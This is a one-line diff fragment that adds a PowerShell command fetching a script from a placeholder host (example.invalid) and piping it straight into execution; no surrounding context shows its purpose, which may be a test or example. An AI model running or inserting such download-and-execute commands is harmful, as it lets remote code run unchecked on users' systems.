@@ -1,0 +1,1 @@
+iwr https://example.invalid/x.ps1 | iex
